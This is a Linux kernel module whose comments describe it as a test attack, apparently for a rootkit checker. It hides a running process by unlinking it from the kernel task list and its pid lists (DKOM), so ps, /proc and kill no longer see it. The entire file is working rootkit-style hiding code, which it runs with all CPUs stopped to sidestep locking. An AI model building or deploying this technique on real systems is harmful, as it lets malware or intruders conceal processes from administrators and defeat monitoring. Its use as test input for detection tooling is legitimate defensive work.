// SPDX-License-Identifier: GPL-2.0
/*
 * hide_task: direct kernel object manipulation. Unlinks a task (by pid) from the global task
 * list (`tasks`, walked by for_each_process) and from its struct pid's task lists (what
 * /proc and kill() use to find it), so ps, /proc/<pid> and kill no longer see it while it
 * keeps running. Still linked, for a checker's cross view: its parent's children list, its
 * pid number in the namespace (a struct pid with no task), a run queue whenever it runs.
 *
 *   insmod hide_task.ko pid=<pid>      hide (a single-threaded process)
 *   rmmod hide_task                    put it back
 *
 * The hidden task must not exit while hidden (its exit would unlink it a second time);
 * unloading the module relinks it first.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/stop_machine.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "pid of the task to hide");

static struct task_struct *hidden;
static struct pid *hidden_pid;

/*
 * tasklist_lock is not exported: do the unlinking with every other CPU stopped, so no
 * writer is half-way through these lists.
 */
static int unlink_task(void *unused)
{
	list_del_rcu(&hidden->tasks);
	hlist_del_rcu(&hidden->pid_links[PIDTYPE_PID]);
	hlist_del_rcu(&hidden->pid_links[PIDTYPE_TGID]);
	return 0;
}

static int relink_task(void *unused)
{
	list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	hlist_add_head_rcu(&hidden->pid_links[PIDTYPE_PID], &hidden_pid->tasks[PIDTYPE_PID]);
	hlist_add_head_rcu(&hidden->pid_links[PIDTYPE_TGID], &hidden_pid->tasks[PIDTYPE_TGID]);
	return 0;
}

static int __init hide_task_init(void)
{
	struct task_struct *task;
	int err;

	hidden_pid = find_get_pid(pid);
	task = get_pid_task(hidden_pid, PIDTYPE_PID);
	if (!task) {
		put_pid(hidden_pid);
		pr_info("hide_task: no task with pid %d\n", pid);
		return -ESRCH;
	}
	if (!thread_group_leader(task) || !thread_group_empty(task)) {
		pr_info("hide_task: pid %d is not a single-threaded process\n", pid);
		put_task_struct(task);
		put_pid(hidden_pid);
		return -EINVAL;
	}
	hidden = task;
	err = stop_machine(unlink_task, NULL, NULL);
	if (err) {
		put_task_struct(task);
		put_pid(hidden_pid);
		return err;
	}
	pr_info("hide_task: pid %d (%s) unlinked from the task list and its pid\n", pid,
		task->comm);
	return 0;
}

static void __exit hide_task_exit(void)
{
	stop_machine(relink_task, NULL, NULL);
	pr_info("hide_task: pid %d relinked\n", pid);
	put_task_struct(hidden);
	put_pid(hidden_pid);
}

module_init(hide_task_init);
module_exit(hide_task_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("spumone test attack: hide a task by unlinking it (DKOM)");
